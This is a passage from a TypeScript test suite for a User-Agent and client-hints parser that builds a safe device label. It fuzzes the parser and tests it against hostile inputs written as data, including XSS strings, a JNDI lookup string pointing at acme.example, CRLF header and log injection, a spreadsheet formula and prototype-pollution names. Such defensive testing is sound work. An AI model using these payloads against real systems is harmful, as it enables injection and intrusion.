    ['\u00a0"macOS"', null],
    ['"macOS"\u00a0', null],
    ['"a", "b"', null],
    ['', null],
    [null, null],
  ])('DEV-1: the string %s is %j', (field, string) => {
    expect(parseString(field)).toBe(string);
  });

  test.each([
    ['?1', true],
    ['?0', false],
    [' ?1 ', true],
    ['?1;a="b"', true],
    ['?2', null],
    ['1', null],
    ['true', null],
    ['?1?', null],
    ['', null],
    [null, null],
  ])('DEV-1: the boolean %s is %j', (field, boolean) => {
    expect(parseBoolean(field)).toBe(boolean);
  });

  test('DEV-1: reads all strings that are written', () => {
    const string = fc.string({ unit: 'grapheme-ascii', maxLength: 20 });
    fc.assert(
      fc.property(fc.array(fc.tuple(string, string), { minLength: 1, maxLength: 8 }), (brands) => {
        const quote = (text: string): string => `"${text.replace(/["\\]/g, '\\$&')}"`;
        const field = brands.map(([brand, version]) => `${quote(brand)};v=${quote(version)}`).join(', ');
        expect(parseStringList(field)).toEqual(brands.map(([brand]) => brand));
      }),
    );
  });

  const GREASE = [
    ...[' Not A;Brand', '(Not(A:Brand', 'Not.A/Brand', 'Not;A=Brand', 'Not/A)Brand', 'Not_A Brand', 'Not A(Brand'],
    ...['Not-A.Brand', 'Not)A;Brand', 'Not=A?Brand', 'Not:A-Brand', 'Not?A_Brand', ';Not A Brand', '(Not;Browser'],
    ...['\\Not"A;Brand', '.Not/A)Brand', 'Some;Other(Brand', '...', ''],
  ];

  test.each(GREASE)('DEV-2: %j is made up and ignored', (brand) => {
    const field = `"${brand.replace(/["\\]/g, '\\$&')}";v="99"`;
    expect(describeDevice(null, { brands: field }).browser).toBeNull();
    expect(describeDevice(null, { brands: `${field}, "Chromium";v="124"` }).browser).toBe('Chromium');
  });

  test('DEV-2: the order of the brands means nothing', () => {
    // biome-ignore format: a list
    const brand = fc.constantFrom(
      'Chromium', 'Google Chrome', 'Brave', 'Opera', 'Microsoft Edge', 'Microsoft Edge WebView2', 'Android WebView',
      'Not-A.Brand', '(Not;Browser', 'Xwebs mega', 'Acme Browser', 'HeadlessChrome', 'Samsung Internet',
    );
    const lists = fc
      .uniqueArray(brand, { minLength: 1 })
      .chain((brands) => fc.tuple(fc.constant(brands), fc.shuffledSubarray(brands, { minLength: brands.length })));
    fc.assert(
      fc.property(lists, ([brands, shuffled]) => {
        const field = (list: readonly string[]): string => list.map((name) => `"${name}";v="1"`).join(', ');
        const device = describeDevice(`${WINDOWS} ${CHROME}`, { brands: field(brands) });
        expect(describeDevice(`${WINDOWS} ${CHROME}`, { brands: field(shuffled) })).toEqual(device);
      }),
    );
  });

  test('DEV-2: an unknown brand survives, and is preferred over the engine', () => {
    const device = describeDevice(null, {
      brands: '"Chromium";v="124", "Acme Browser";v="1", "Google Chrome";v="124"',
    });
    expect(device.browser).toBe('Acme Browser');
  });

  test.each(['', '?', 'Chromium', '"Chromium', '"Brave";v="1",', '"Brave" "x"', `"Brave";v="${'1'.repeat(2000)}"`])(
    'DEV-4: with hints that do not parse, the User-Agent is what there is: %j',
    (field) => {
      const hints = { brands: field, mobile: field, platform: field, formFactors: field };
      expect(describeDevice(`${WINDOWS} ${CHROME}`, hints)).toEqual(describeDevice(`${WINDOWS} ${CHROME}`));
    },
  );
});

// biome-ignore format: words that the parsers look for, and what may stand between them
const FRAGMENTS = [
  'Mozilla/5.0 ', '(', ')', '; ', 'Linux; Android 10; ', 'Macintosh', 'iPhone', ' AppleWebKit/605.1.15 ', 'like Gecko)',
  ' Chrome/1', ' Safari/1', 'Version/1', 'Mobile', ' Electron/1 Safari', 'Acme<b>/1', 'bot/', '+http://', 'CFNetwork/1',
  '%00', '%', '%E2%80%AE', '\r\n', '\0', '\u202e', '\u2066', '\ud800', '<script>', '"', "'", '&', '\\', '🦊', 'ﷺ',
  '"Chromium";v="1"', ', ', ';v=', '?1', '"<img src=x onerror=alert(1)>"',
];

// Texts of characters that a header may contain, and of characters that it may not.
const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.array(fc.nat(0xffff), { maxLength: 300 }).map((units) => String.fromCharCode(...units)),
  fc
    .array(fc.oneof(fc.string({ unit: 'binary', maxLength: 6 }), fc.constantFrom(...FRAGMENTS)), { maxLength: 60 })
    .map((parts) => parts.join('')),
);

const SAFE = /^[A-Za-z0-9][A-Za-z0-9 ._+-]*$/;

const expectSafe = (device: ReturnType<typeof describeDevice>): void => {
  expect(device.label).toMatch(SAFE);
  expect(device.label.length).toBeLessThanOrEqual(64);
  for (const name of [device.browser, device.os]) if (name !== null) expect(name).toMatch(SAFE);
};

describe('hostile text', () => {
  test('DEV-3, OPS-8: never throws, and only holds what is safe to print anywhere', () => {
    fc.assert(
      fc.property(hostileText, hostileText, hostileText, fc.boolean(), (userAgent, brand, platform, quoted) => {
        const field = (text: string): string => (quoted ? `"${text.replace(/["\\]/g, '\\$&')}"` : text);
        const hints = { brands: field(brand), platform: field(platform), mobile: userAgent, formFactors: brand };
        const device = describeDevice(userAgent, hints);
        expectSafe(device);
        expect(describeDevice(userAgent, hints)).toEqual(device);
      }),
      { numRuns: 2000 },
    );
  });

  test('DEV-3: a name that was made safe stays as it is', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const name = cleanName(text);
        if (name !== null) expect(cleanName(name)).toBe(name);
      }),
    );
  });

  // biome-ignore format: a table has a row on each line
  const HOSTILE: readonly (readonly [label: string, userAgent: string])[] = [
    ['Unknown device', '<script>alert(1)</script>/1.0'],
    ['Unknown device', '"><img src=x onerror=alert(1)>'],
    ['Unknown device', '\0\0\0'],
    ['Unknown device', '\u202e\u2066'],
    ['Unknown device', '💥💥💥'],
    ['Unknown device', 'please call 555-0100 and read out your code'],
    ['Unknown device', '=HYPERLINK("http://acme.example")'],
    ['Unknown device', `\${jndi:ldap://acme.example/a}`],
    ['Chrome on Windows', `${WINDOWS} ${CHROME}\r\nSet-Cookie: a=b`],
    ['curl', 'curl/8.4.0\r\n[info] user admin signed in'],
    ['AcmeShop on iOS', `${IPHONE} ${IOS_VIEW} AcmeShop/1<script>`],
    ['constructor', 'constructor/1.0'],
    ['toString', 'toString'],
  ];

  test.each(HOSTILE)('DEV-3, OPS-8: %s, from %j', (label, userAgent) => {
    expect(describeDevice(userAgent).label).toBe(label);
  });

  test('DEV-3: brands and platforms are made safe as well', () => {
    const device = describeDevice(null, { brands: '"Acme <b>Browser</b>"', platform: '"Acme\'<?=print(1);?> OS"' });
    expect(device.browser).toBeNull(); // a product name has no slash, so this one counts as made up
    expectSafe(device);
    expect(describeDevice(null, { brands: '"constructor"', platform: '"__proto__"' }).label).toBe(
      'constructor on proto',
    );
  });

  test('DEV-3: a huge text is cut, and a long name too', () => {
    expect(describeDevice(`${WINDOWS} ${CHROME} ${'x'.repeat(1_000_000)}`).label).toBe('Chrome on Windows');
    expect(describeDevice(`${WINDOWS} ${CHROME} ${'x'.repeat(1024)} Instagram 327.0`).label).toBe('Chrome on Windows');
    expect(describeDevice('A'.repeat(1_000_000)).label).toBe('Unknown device');
    expect(describeDevice(`${'A'.repeat(50)}/1.0`).label).toBe('A'.repeat(30));
    const device = describeDevice(null, { brands: `"${'B'.repeat(500)}"`, platform: `"${'O'.repeat(500)}"` });
    expect(device.label).toBe(`${'B'.repeat(30)} on ${'O'.repeat(30)}`);
  });

  test('SES-5, DEV-3: what is not a string counts as not sent', () => {
    fc.assert(
      fc.property(fc.anything(), fc.anything(), (userAgent, hint) => {
        fc.pre(typeof userAgent !== 'string' && typeof hint !== 'string');
        const given = { brands: hint, mobile: hint, platform: hint, formFactors: hint } as ClientHints;
        expect(describeDevice(userAgent as string, given).label).toBe('Unknown device');
        expect(describeDevice([`${WINDOWS} ${CHROME}`] as unknown as string, hint as ClientHints).type).toBe('unknown');
      }),
    );
  });

  // Each text is repeated to make a regular expression backtrack.
  const SLOW = [
    ...['droid ; a bui', 'mozilla/5 rv:droid ; a bui', 'droid ', 'Mozilla/5.0 naver(1.1', 'hbbtv/1.1 ( ; a; ', '; a'],
    ...['droid version/1 safari ', 'a-', 'bot', 'a b ', '%41 ', 'Safari/1 a/1', 'CFNetwork Darwin/(', ' ', '(', 'A/1 '],
    ...['"a";v="1", ', '"a', '"\\\\', '"";a', '"";', ';a='],
  ];

  // Returns the processor time of this process in ms. Unlike wall time, it does not grow on a busy machine.
  function workOf(what: () => unknown): number {
    const before = process.cpuUsage();
    what();
    const { user, system } = process.cpuUsage(before);
    return (user + system) / 1000;
  }

  // A tenth of this is usual. An expression that backtracks takes seconds.
  test.each(SLOW)('DEV-3: repeats of %j take less than 50 ms', (text) => {
    const long = text.repeat(2000 / text.length);
    const padded = [long, `Mozilla/5.0 (Linux; Android 10; ${long}`, long.slice(0, 1024), `${long.slice(0, 250)}!`];
    for (const given of padded) {
      const hints = { brands: given, mobile: given, platform: given, formFactors: given };
      let least = Number.POSITIVE_INFINITY;
      // The least of several tries counts: the first calls compile the expressions, and other threads use processor
      // time too.
      for (let tries = 0; tries < 20 && least >= 50; tries++) {
        least = Math.min(
          least,
          workOf(() => describeDevice(given, hints)),
        );
      }
      expect(least).toBeLessThan(50);
    }
  });
});

describe('what it is for', () => {
  test('DEV-5: a description is a claim: a copied User-Agent gives the same one, without an identity to check', () => {
    const hints = { brands: CHROME_BRANDS, mobile: '?0', platform: '"Windows"' };
    const own = describeDevice(`${WINDOWS} ${CHROME}`, hints);
    expect(describeDevice(`${WINDOWS} ${CHROME}`, { ...hints })).toEqual(own);
    expect(() => Object.assign(own, { label: 'Safari on iOS' })).toThrow(TypeError);
  });

  test('DEV-6: it tells what a list of devices shows, and leaves the address to the session', () => {
    expect(Object.keys(describeDevice(`${WINDOWS} ${CHROME}`))).toEqual(['label', 'browser', 'os', 'type']);
  });

  test('no label holds a version or a model', () => {
    for (const [, , userAgent] of [...BROWSERS, ...IN_APPS, ...THINGS]) {
      expect(describeDevice(userAgent).label).not.toMatch(/\d|\bK\b|Mobile|Pixel/);
    }
  });
});
